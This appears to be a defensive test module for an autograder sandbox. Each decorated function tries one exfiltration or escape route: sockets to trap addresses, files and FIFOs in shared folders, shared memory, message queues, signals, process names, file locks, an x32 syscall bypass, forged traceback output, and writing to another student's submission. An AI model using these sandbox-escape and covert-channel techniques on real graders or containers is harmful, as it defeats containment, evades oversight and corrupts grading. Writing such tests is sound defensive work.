"""Attempts to carry off what was seen, or to leave it where others find it."""

from tests.kit.attacks.attack import attack

TRAP = {}
MODULE = ("quadruple",)


@attack(layer="seccomp", real=True)
def connects_by_tcp():
    """Connects to a server that waits for it."""
    import socket

    with socket.create_connection(TRAP["tcp"]) as link:
        return link.send(b"what was seen") > 0


@attack(layer="seccomp", real=True)
def sends_a_datagram():
    """Sends a datagram, for which nobody need accept a connection."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        return link.sendto(b"what was seen", TRAP["udp"]) > 0


@attack(layer="seccomp", real=True)
def connects_by_a_file():
    """Connects to a socket that lies in a folder for all."""
    import socket

    with socket.socket(socket.AF_UNIX) as link:
        link.connect(TRAP["unix"])
        return link.send(b"what was seen") > 0


@attack(layer="seccomp", real=True)
def connects_by_an_abstract_name():
    """Connects to a socket that has a name and no file, which no rule on files holds back."""
    import socket

    with socket.socket(socket.AF_UNIX) as link:
        link.connect(TRAP["abstract"])
        return link.send(b"what was seen") > 0


@attack(layer="seccomp", real=True)
def waits_to_be_asked():
    """Waits under an abstract name for a friend to come and ask."""
    import socket

    with socket.socket(socket.AF_UNIX) as link:
        link.bind(f"\0{TRAP['name']}")
        link.listen()
        return link.getsockname() != ""


@attack(layer="processes")
def sends_from_its_own_link():
    """Sends to a stranger from the one socket that it has."""
    import contextlib
    import os
    import socket
    import stat

    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                link = number
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(link)) as own:
        return own.sendto(b"what was seen", TRAP["abstract"]) > 0


@attack(layer="reader", verdict="timeout")
def says_it_where_it_hangs(x):
    """Writes what was passed in, and the sign, as the place where it hangs, for the report to show."""
    import os
    import stat

    pipes = []
    for pipe in range(3, 64):
        try:
            pipes += [pipe] if stat.S_ISFIFO(os.fstat(pipe).st_mode) else []
        except OSError:
            pass
    places = (f"exercises/{TRAP['sign']}.py", "exercises/target.py")
    lines = [f'  File "{place}", line 1 in {TRAP["sign"]}\n' for place in places]
    while True:
        for pipe in pipes:
            os.write(pipe, "".join(lines).encode())


@attack(layer="seccomp", verdict="crashed")
def goes_through_the_old_door():
    """Asks for a socket by a number of another interface of the same kernel, which filters forget."""
    import ctypes

    return ctypes.CDLL(None).syscall(0x40000000 + 41, 1, 1, 0) >= 0


@attack(layer="landlock", real=True)
def writes_a_file():
    """Writes to a folder that everybody may write to."""
    import os

    name = f"{TRAP['drop']}/{TRAP['name']}"
    with open(name, "w"):
        os.unlink(name)
    return True


@attack(layer="landlock", real=True)
def says_it_in_a_name():
    """Makes an empty folder, whose name is the message."""
    import os

    name = f"{TRAP['drop']}/{TRAP['name']} what was seen"
    os.mkdir(name)
    os.rmdir(name)
    return True


@attack(layer="landlock", real=True)
def says_it_where_a_link_leads():
    """Makes a link to what is not there: what was seen is where it leads."""
    import os

    name = f"{TRAP['drop']}/{TRAP['name']}"
    os.symlink("what was seen", name)
    os.unlink(name)
    return True


@attack(layer="landlock", real=True)
def lays_a_pipe():
    """Lays a pipe with a name in a folder for all, for a friend to listen at."""
    import os

    name = f"{TRAP['drop']}/{TRAP['name']}"
    os.mkfifo(name)
    os.unlink(name)
    return True


@attack(layer="landlock", real=True)
def opens_a_neighbour_s_work_to_write():
    """Opens what another student handed in, to add to it."""
    with open(TRAP["eve"], "r+") as file:
        return file.writable()


@attack(layer="landlock", real=True)
def takes_shared_memory_by_name():
    """Makes a block of memory that another process finds by its name."""
    import _posixshmem
    import os

    os.close(_posixshmem.shm_open(f"/{TRAP['name']}", os.O_CREAT | os.O_RDWR, 0o666))
    _posixshmem.shm_unlink(f"/{TRAP['name']}")
    return True


@attack(layer="seccomp", real=True)
def takes_shared_memory_by_number():
    """Makes a block of memory that stays when its process ends, and is found by its number."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    block = libc.shmget(TRAP["key"], 4096, 0o1666)
    if block < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    return libc.shmctl(block, 0, None) == 0


@attack(layer="seccomp", real=True)
def leaves_a_message_in_a_queue():
    """Makes a queue of messages, which stays when its process ends."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.msgget(TRAP["key"], 0o1666)
    if queue < 0:
        raise OSError(ctypes.get_errno(), "msgget")
    message = ctypes.create_string_buffer(b"\1" + bytes(7) + b"what was seen")
    sent = libc.msgsnd(queue, message, 13, 0)
    return libc.msgctl(queue, 0, None) == sent == 0


# Not real: containers have no keyring.
@attack(layer="seccomp")
def leaves_a_key():
    """Puts what was seen on the keyring of the user, where the next process of the user finds it."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    key = libc.syscall(248, b"user", TRAP["name"].encode(), b"what was seen", 13, -4)
    if key < 0:
        raise OSError(ctypes.get_errno(), "add_key")
    return libc.syscall(250, 3, key) == 0


@attack(layer="seccomp", real=True)
def says_it_in_a_time():
    """Sets the time of a file that is not its own to say, for its date can be seen by all."""
    import os

    status = os.stat(TRAP["unix"])
    os.utime(TRAP["unix"], ns=(status.st_atime_ns, status.st_mtime_ns + 271828))
    os.utime(TRAP["unix"], ns=(status.st_atime_ns, status.st_mtime_ns))
    return True


@attack(layer="seccomp", real=True)
def says_it_in_a_mode():
    """Changes who may use a file: nine bits, and anybody can see them."""
    import os

    mode = os.stat(TRAP["unix"]).st_mode
    os.chmod(TRAP["unix"], mode ^ 0o111)
    os.chmod(TRAP["unix"], mode)
    return True


@attack(layer="seccomp", real=True)
def says_it_by_a_lock():
    """Locks a file that it may read, as others can see whether it is locked."""
    import fcntl

    import numpy as np

    with open(np.__file__) as file:
        fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
    return True


@attack(layer="seccomp", real=True)
def says_it_by_a_lock_of_a_part():
    """Locks a part of a file that it may read, whose place is the message."""
    import fcntl

    import numpy as np

    with open(np.__file__) as file:
        fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 271828)
    return True


@attack(layer="seccomp", real=True)
def says_it_in_its_own_name():
    """Calls its process what it has seen, as everybody can list the names of processes."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(15, b"271828", 0, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl")
    return True


@attack(layer="seccomp", real=True, at_import=True, spares=MODULE)
def says_it_by_its_priority():
    """Makes its process run behind others, by as much as it has to say."""
    import os

    return os.nice(1) > 0


@attack(layer="seccomp", real=True)
def says_it_in_a_signal():
    """Sends a signal that nobody minds, with a number for a message."""
    import ctypes
    import signal

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.sigqueue(TRAP["grader"], int(signal.SIGURG), ctypes.c_void_p(271828)) != 0:
        raise OSError(ctypes.get_errno(), "sigqueue")
    return True


@attack(layer="seccomp", real=True)
def has_the_kernel_signal():
    """Has the kernel signal the grader whenever its link has something to read."""
    import contextlib
    import fcntl
    import os
    import stat

    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                link = number
    fcntl.fcntl(link, fcntl.F_SETOWN, TRAP["grader"])
    fcntl.fcntl(link, fcntl.F_SETOWN, 0)
    return True


@attack(layer="seccomp", real=True, at_import=True, spares=MODULE)
def sends_a_child():
    """Has a child carry it off, which would live on when the worker is ended."""
    import os
    import socket

    child = os.fork()
    if child == 0:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.sendto(b"what was seen", TRAP["udp"])
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


# Not real: in the other program nothing can give points.
@attack(layer="seccomp")
def becomes_another_program():
    """Becomes a program whose arguments everybody can list."""
    import os

    os.execv("/bin/sh", ["sh", "-c", "exit 0", "what was seen"])


# Not real: where tests run there may be no terminal.
@attack(layer="landlock")
def writes_to_the_terminal():
    """Opens the terminal of who started the grader, to write on it."""
    import os

    for terminal in os.scandir("/dev/pts"):
        with open(terminal, "w") as screen:
            return screen.isatty()
    return False
